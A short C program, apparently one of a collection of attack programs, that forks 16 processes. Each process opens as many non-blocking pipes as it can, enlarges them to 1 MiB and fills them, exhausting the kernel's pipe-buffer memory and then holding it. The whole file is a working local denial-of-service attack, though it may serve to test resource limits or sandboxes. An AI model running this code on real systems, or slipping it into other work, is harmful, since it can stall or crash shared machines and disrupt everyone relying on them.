// Fills the kernel's buffers of as many pipes as it may open.
#include "attack.h"
#include <fcntl.h>
#include <sys/resource.h>
int main(void) {
  static char block[65536];
  struct rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  long kept = 0;
  for (int processes = 0; processes < 16; ++processes) {
    if (fork() != 0) continue;
    int ends[2];
    while (pipe2(ends, O_NONBLOCK) == 0) {
      fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
      while (write(ends[1], block, sizeof(block)) > 0) kept += (long)sizeof(block);
    }
    pause();
  }
  pause();
}
